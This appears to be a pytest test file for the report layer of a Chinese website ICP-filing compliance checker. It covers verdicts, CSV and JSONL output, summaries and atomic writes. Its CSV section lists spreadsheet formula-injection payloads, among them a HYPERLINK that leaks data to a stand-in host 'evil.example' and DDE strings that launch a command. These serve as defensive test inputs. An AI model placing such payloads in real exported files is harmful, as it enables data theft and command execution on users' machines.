"""The report layer: verdicts, rows, Excel CSV, JSON Lines, summary and atomic writing."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
from pathlib import Path
from typing import Any

import pytest

from reports import writer
from reports.csvfile import ExcelCsvWriter, neutralise
from reports.jsonl import ResultsFileError, parse_results, read_results, write_results
from reports.rows import (
    CORE_CATEGORIES,
    FINDING_COLUMNS,
    LABELS,
    SITE_HEAD,
    SITE_TAIL,
    SiteLayout,
    finding_rows,
    headers,
    site_row,
)
from reports.summary import Summary, display_width, render_summary, render_table
from reports.verdict import Verdict, judge
from reports.writer import ReportDirError, write_reports

REPORTS_DIR = Path(__file__).resolve().parent.parent / "reports"


def finding(
    category: str = "icp_filing",
    number: str = "京ICP备20018813号-3",
    status: str = "valid",
    problems: tuple[str, ...] = (),
    link_status: str = "ok",
    location: str = "footer",
) -> dict[str, Any]:
    return {
        "category": category, "number": number, "status": status,
        "problems": list(problems), "warnings": [], "link": "https://beian.miit.gov.cn/",
        "link_status": link_status, "location": location, "raw": number,
    }  # fmt: skip


def site(
    input: str = "example.cn",
    line: int = 1,
    outcome: str = "ok",
    reason: str | None = None,
    findings: tuple[dict[str, Any], ...] = (),
    footer_text: str = "",
    extra: dict[str, Any] | None = None,
) -> dict[str, Any]:
    reached = outcome == "ok"
    return {
        "input": input, "source": "targets.csv", "line": line, "duplicate_lines": [],
        "host": input, "display_host": input, "registered_domain": input,
        "url": f"https://{input}/", "final_url": f"https://{input}/" if reached else None,
        "redirects": [], "status": 200 if reached else None,
        "outcome": outcome, "reason": reason,
        "fetched_at": "2026-11-29T17:20:00Z" if reached else None,
        "sha256": "ab" * 32 if reached else None, "encoding": "utf-8" if reached else None,
        "footer": {"found": bool(footer_text), "selector": "footer" if footer_text else None,
                   "text": footer_text},
        "findings": list(findings), "extra": extra or {},
    }  # fmt: skip


# --- verdict -------------------------------------------------------------------------

VALID_ICP = finding()
VERDICT_CASES = [
    ("invalid input", site(outcome="invalid_input", reason="invalid_host"),
     Verdict("invalid_input", ("invalid_input:invalid_host",))),
    ("dns failure", site(outcome="unreachable", reason="dns"),
     Verdict("unreachable", ("unreachable:dns",))),
    ("http 404", site(outcome="unreachable", reason="http_404"),
     Verdict("unreachable", ("unreachable:http_404",))),
    ("not html without reason", site(outcome="not_html"), Verdict("unreachable", ("not_html",))),
    ("too large", site(outcome="too_large", reason="content_length"),
     Verdict("unreachable", ("too_large:content_length",))),
    ("robots.txt", site(outcome="blocked_by_robots"),
     Verdict("unreachable", ("blocked_by_robots",))),
    ("no numbers", site(), Verdict("non_compliant", ("missing:icp_filing",))),
    ("valid filing", site(findings=(VALID_ICP,)), Verdict("compliant")),
    ("licence-based filing 粤B2-20090059-5",
     site(findings=(finding(number="粤B2-20090059-5"),)), Verdict("compliant")),
    ("ICP licence alone is not a filing",
     site(findings=(finding("icp_license", "京ICP证030173号"),)),
     Verdict("non_compliant", ("missing:icp_filing",))),
    ("malformed filing", site(findings=(finding(status="malformed", problems=("missing_hao",)),)),
     Verdict("non_compliant", ("icp_filing:missing_hao",))),
    ("placeholder filing",
     site(findings=(finding(number="京ICP备88888888号", status="placeholder",
                            problems=("placeholder",)),)),
     Verdict("non_compliant", ("icp_filing:placeholder",))),
    ("placeholder without problem codes",
     site(findings=(finding(status="placeholder"),)),
     Verdict("non_compliant", ("icp_filing:placeholder",))),
    ("same problem twice counts once",
     site(findings=(finding(status="malformed", problems=("digit_count", "missing_hao")),
                    finding(status="malformed", problems=("digit_count",)))),
     Verdict("non_compliant", ("icp_filing:digit_count", "icp_filing:missing_hao"))),
    ("stale ICP link is a problem", site(findings=(finding(link_status="stale_link"),)),
     Verdict("non_compliant", ("icp_filing:stale_link",))),
    ("malformed and unlinked",
     site(findings=(finding(status="malformed", problems=("digit_count",),
                            link_status="unlinked"),)),
     Verdict("non_compliant", ("icp_filing:digit_count", "icp_filing:unlinked"))),
    ("unlinked copy in a script next to a linked one",
     site(findings=(VALID_ICP, finding(link_status="unlinked", location="script"))),
     Verdict("compliant")),
    ("police number from another region",
     site(findings=(VALID_ICP, finding("psb_filing", "京公网安备31010402000001号",
                                       status="malformed", problems=("region_mismatch",),
                                       link_status="code_mismatch"))),
     Verdict("non_compliant", ("psb_filing:code_mismatch",), ("psb_filing:region_mismatch",))),
    ("ICP province and police region disagree",
     site(findings=(VALID_ICP, finding("psb_filing", "沪公网安备31010402000001号"))),
     Verdict("non_compliant", ("province_mismatch:icp_psb",))),
    ("broken second filing number next to a valid one",
     site(findings=(VALID_ICP, finding(number="京ICP备2031001号", status="malformed",
                                       problems=("year_out_of_range",), location="script"))),
     Verdict("compliant", (), ("icp_filing:year_out_of_range",))),
    ("no link rule for the category", site(findings=(VALID_ICP, finding(
        "uscc", "91110000802100433B", link_status="not_required"))),
     Verdict("compliant")),
]  # fmt: skip


@pytest.mark.parametrize(
    ("result", "expected"), [case[1:] for case in VERDICT_CASES], ids=[c[0] for c in VERDICT_CASES]
)
def test_verdict(result: dict[str, Any], expected: Verdict) -> None:
    assert judge(result) == expected


# --- Excel CSV -----------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "-1",
    "\t=1",
    "\r=1",
]
HARMLESS = ["京ICP备20018813号-3", "a=b", "50%", "", "'already quoted", "1-2"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payload_is_neutralised(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_kept(text: str) -> None:
    assert neutralise(text) == text


def write_csv(rows: list[list[object]]) -> bytes:
    out = io.BytesIO()
    with ExcelCsvWriter(out) as sheet:
        for row in rows:
            sheet.writerow(row)
    assert not out.closed
    return out.getvalue()


def test_csv_has_bom_and_crlf() -> None:
    data = write_csv([["host", "number"], ["例子.中国", "京ICP备20018813号-3"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\xef\xbb\xbf") == 1
    assert data.endswith(b"\r\n") and data.count(b"\r\n") == 2 and data.count(b"\n") == 2


def test_csv_round_trip() -> None:
    rows = [
        ["footer, with comma", 'say "hi"', "line\nbreak", "粤ICP备19003986号", None, 200],
        PAYLOADS,
        HARMLESS,
    ]
    text = write_csv(rows).decode("utf-8-sig")
    read = list(csv.reader(io.StringIO(text, newline="")))
    expected = [[neutralise("" if cell is None else str(cell)) for cell in row] for row in rows]
    assert read == expected
    assert not any(cell.startswith(tuple("=+-@\t\r")) for row in read for cell in row)


# --- JSON Lines ----------------------------------------------------------------------


def test_jsonl_round_trip_keeps_chinese() -> None:
    results = [
        site(footer_text="Copyright © 2026 例子公司 版权所有 | 京ICP备20018813号-3\u2028第二行 😀",
             findings=(VALID_ICP,), extra={"客户": "甲", "note": "a\nb"}),
        site(input="坏的输入", outcome="invalid_input", reason="invalid_host"),
    ]  # fmt: skip
    out = io.StringIO()
    assert write_results(out, results) == 2
    text = out.getvalue()
    assert "京ICP备20018813号-3" in text and "\\u" not in text
    assert text.count("\n") == 2
    assert list(parse_results(io.StringIO(text))) == results


def test_read_results_from_file(tmp_path: Path) -> None:
    path = tmp_path / "results.jsonl"
    results = [site(input=f"例子{n}.cn", line=n) for n in range(3)]
    with path.open("w", encoding="utf-8") as stream:
        write_results(stream, results)
    assert list(read_results(path)) == results


CORRUPT_FILES = [
    ("truncated last line", b'{"line": 1}\n{"line": 2}\n{"line": ', "line 3: not valid JSON"),
    ("not an object", b'{"line": 1}\n[1, 2]\n', "line 2: expected an object, got list"),
    ("bad UTF-8", b'{"line": 1}\n{"host": "\xff\xfe"}\n', "line 2: not valid JSON"),
    ("text after the object", b'\n\n{"line": 1} x\n', "line 3: not valid JSON"),
]


@pytest.mark.parametrize(
    ("data", "message"), [c[1:] for c in CORRUPT_FILES], ids=[c[0] for c in CORRUPT_FILES]
)
def test_corrupt_results_line_is_named(tmp_path: Path, data: bytes, message: str) -> None:
    path = tmp_path / "results.jsonl"
    path.write_bytes(data)
    with pytest.raises(ResultsFileError, match=message) as error:
        list(read_results(path))
    assert str(path) in str(error.value)


# --- rows ----------------------------------------------------------------------------


def test_site_row() -> None:
    result = site(
        footer_text="版权所有 " * 200,
        findings=(VALID_ICP, VALID_ICP | {"location": "page"},
                  finding("news_license", "（京）字第00001号", status="malformed",
                          problems=("unknown_format",), link_status="not_required")),
        extra={"customer": "ACME", "host": "from input", "tags": ["a", "b"]},
    )  # fmt: skip
    result["duplicate_lines"] = [7, 9]
    layout = SiteLayout()
    layout.include(result)
    layout.include(site(input="other.cn", extra={"owner": "法务部"}))
    columns = layout.columns()
    assert columns[: len(SITE_HEAD)] == list(SITE_HEAD)
    assert columns[len(SITE_HEAD):] == [
        *CORE_CATEGORIES, "news_license", *SITE_TAIL, "customer", "extra_host", "tags", "owner",
    ]  # fmt: skip

    row = dict(zip(columns, site_row(result, judge(result), layout), strict=True))
    assert row["duplicate_lines"] == "7; 9"
    assert row["icp_filing"] == "京ICP备20018813号-3"  # once, though found twice
    assert row["news_license"] == "（京）字第00001号"
    assert row["psb_filing"] == ""
    assert row["verdict"] == "compliant"
    assert row["notices"] == "news_license:unknown_format"
    assert len(row["evidence"]) == 500 and row["evidence"].endswith("…")
    assert (row["customer"], row["extra_host"], row["tags"], row["owner"]) == (
        "ACME", "from input", "a; b", None,
    )  # fmt: skip


def test_finding_rows() -> None:
    malformed = finding(status="malformed", problems=("missing_hao", "digit_count"))
    rows = list(finding_rows(site(findings=(VALID_ICP, malformed))))
    assert [len(row) for row in rows] == [len(FINDING_COLUMNS)] * 2
    record = dict(zip(FINDING_COLUMNS, rows[1], strict=True))
    assert record["input"] == "example.cn" and record["problems"] == "missing_hao; digit_count"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_every_fixed_column_has_a_label(lang: str) -> None:
    fixed = [*SITE_HEAD, *CORE_CATEGORIES, *SITE_TAIL, *FINDING_COLUMNS]
    assert set(fixed) <= set(LABELS)
    labels = headers(fixed, lang)
    assert all(labels) and labels != fixed


def test_unknown_header_language() -> None:
    with pytest.raises(ValueError, match="'fr'"):
        headers(["verdict"], "fr")


# --- summary -------------------------------------------------------------------------

SUMMARY_RESULTS = [
    site(findings=(VALID_ICP,)),
    site(findings=(finding(link_status="stale_link"),)),
    site(findings=(finding(status="malformed", problems=("missing_hao",)),
                   finding(status="malformed", problems=("missing_hao",)))),
    site(),
    site(outcome="unreachable", reason="dns"),
    site(outcome="unreachable", reason="dns"),
    site(outcome="unreachable", reason="timeout"),
    site(outcome="invalid_input", reason="invalid_host"),
]  # fmt: skip


def test_summary_counts() -> None:
    summary = Summary()
    for result in SUMMARY_RESULTS:
        summary.add(result, judge(result))
    counts = summary.to_dict()
    assert counts["sites"] == 8
    # Known verdicts first in their fixed order, the rest by count then name.
    assert list(counts["verdicts"].items()) == [
        ("compliant", 1),
        ("non_compliant", 3),
        ("unreachable", 3),
        ("invalid_input", 1),
    ]
    assert list(counts["outcomes"].items()) == [
        ("ok", 4),
        ("unreachable:dns", 2),
        ("invalid_input:invalid_host", 1),
        ("unreachable:timeout", 1),
    ]
    assert list(counts["problems"].items()) == [
        ("unreachable:dns", 2),
        ("icp_filing:missing_hao", 1),  # once for its two findings
        ("icp_filing:stale_link", 1),
        ("invalid_input:invalid_host", 1),
        ("missing:icp_filing", 1),
        ("unreachable:timeout", 1),
    ]
    assert counts["notices"] == {}
    assert render_summary(summary).split("\n\n")[1].splitlines() == [
        "outcome                     sites  share",
        "--------------------------  -----  -----",
        "ok                              4  50.0%",
        "unreachable:dns                 2  25.0%",
        "invalid_input:invalid_host      1  12.5%",
        "unreachable:timeout             1  12.5%",
    ]  # fmt: skip


WIDTHS = [("粤ICP备", 7), ("例子.中国", 9), ("ＩＣＰ", 6), ("e\u0301", 1), ("a\u200bb", 2)]


@pytest.mark.parametrize(("text", "width"), WIDTHS, ids=[case[0] for case in WIDTHS])
def test_display_width(text: str, width: int) -> None:
    assert display_width(text) == width


TABLES = [
    ("ascii", [("example.cn", 12), ("a.cn", 3)]),
    ("chinese hosts", [("例子.中国", 3), ("示例.cn", 1234), ("example.cn", 5)]),
    ("full-width and combining", [("ＩＣＰ", 1), ("café", 22)]),
]


@pytest.mark.parametrize("rows", [case[1] for case in TABLES], ids=[case[0] for case in TABLES])
def test_table_columns_line_up(rows: list[tuple[str, int]]) -> None:
    lines = render_table(("host", "sites"), rows).splitlines()
    assert len(lines) == len(rows) + 2
    # The count column is right-aligned, so every line ends in the same terminal column.
    assert len({display_width(line) for line in lines}) == 1


# --- writing a report directory -----------------------------------------------------

META = {"started": "2026-11-29T17:00:00Z", "finished": "2026-11-29T17:20:00Z",
        "tool_version": "0.1.0", "catalogue_version": "abc123", "vantage": "cn-east",
        "lines": {"read": 10, "kept": 8, "merged": 1, "rejected": 1}}  # fmt: skip


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_write_reports(tmp_path: Path) -> None:
    out = tmp_path / "report"
    summary = write_reports(iter(SUMMARY_RESULTS), out, META)
    assert sorted(p.name for p in out.iterdir()) == sorted(writer.REPORT_FILES)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]

    sites = read_csv(out / "sites.csv")
    assert len(sites) == 1 + len(SUMMARY_RESULTS)
    assert [row[sites[0].index("verdict")] for row in sites[1:]] == [
        judge(result).verdict for result in SUMMARY_RESULTS
    ]
    findings = read_csv(out / "findings.csv")
    assert findings[0] == list(FINDING_COLUMNS) and len(findings) == 1 + 4
    assert list(read_results(out / "results.jsonl")) == SUMMARY_RESULTS
    stored = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert stored == {"meta": META, **summary.to_dict()}


def test_write_reports_with_chinese_headers(tmp_path: Path) -> None:
    write_reports([site(findings=(VALID_ICP,))], tmp_path / "report", META, lang="zh")
    header = read_csv(tmp_path / "report" / "sites.csv")[0]
    assert header[:2] == ["输入", "行号"] and "ICP备案号" in header


def failing_results() -> Any:
    yield from SUMMARY_RESULTS[:3]
    raise RuntimeError("crawl died")


def failing_judge(result: dict[str, Any]) -> Verdict:
    if result["outcome"] == "invalid_input":
        raise RuntimeError("rule bug")
    return judge(result)


FAILURES = [
    ("results stop midway", {"results": failing_results()}),
    ("verdict rule fails", {"judge": failing_judge}),
    ("meta not serialisable", {"meta": {"started": object()}}),
]


@pytest.mark.parametrize("failure", [c[1] for c in FAILURES], ids=[c[0] for c in FAILURES])
def test_failed_write_keeps_earlier_report(tmp_path: Path, failure: dict[str, Any]) -> None:
    out = tmp_path / "report"
    write_reports([site(input="earlier.cn", findings=(VALID_ICP,))], out, META)
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    arguments = {"results": SUMMARY_RESULTS, "out_dir": out, "meta": META} | failure
    with pytest.raises((RuntimeError, TypeError)):
        write_reports(**arguments)

    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_failed_swap_restores_earlier_report(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "report"
    write_reports([site(input="earlier.cn")], out, META)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    real_replace = os.replace

    def replace(source: Path, target: Path) -> None:
        if Path(source).name.endswith(".new"):
            raise OSError("disk gone")
        real_replace(source, target)

    monkeypatch.setattr(writer.os, "replace", replace)
    with pytest.raises(OSError, match="disk gone"):
        write_reports(SUMMARY_RESULTS, out, META)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


def test_replaces_earlier_report(tmp_path: Path) -> None:
    out = tmp_path / "report"
    write_reports([site(input="earlier.cn")], out, META)
    write_reports([site(input="later.cn")], out, META)
    assert [r["input"] for r in read_results(out / "results.jsonl")] == ["later.cn"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report"]


@pytest.mark.parametrize("occupant", ["notes.txt", "subdir"], ids=["file", "directory"])
def test_refuses_directory_with_other_files(tmp_path: Path, occupant: str) -> None:
    (tmp_path / "sites.csv").write_text("old")
    (tmp_path / occupant).mkdir() if occupant == "subdir" else (tmp_path / occupant).touch()
    with pytest.raises(ReportDirError, match=occupant):
        write_reports([site()], tmp_path, META)
    assert (tmp_path / "sites.csv").read_text() == "old"


def test_refuses_a_file_as_report_directory(tmp_path: Path) -> None:
    (tmp_path / "report").write_text("not a directory")
    with pytest.raises(ReportDirError, match="not a directory"):
        write_reports([site()], tmp_path / "report", META)


@pytest.mark.parametrize("module", sorted(p.name for p in REPORTS_DIR.glob("*.py")))
def test_reports_do_not_import_scrapy_or_crawler(module: str) -> None:
    tree = ast.parse((REPORTS_DIR / module).read_text(encoding="utf-8"))
    imported = {
        name.split(".")[0]
        for node in ast.walk(tree)
        if isinstance(node, ast.Import | ast.ImportFrom)
        for name in ([a.name for a in node.names] if isinstance(node, ast.Import)
                     else [node.module or ""])
    }  # fmt: skip
    assert not imported & {"scrapy", "crawler"}
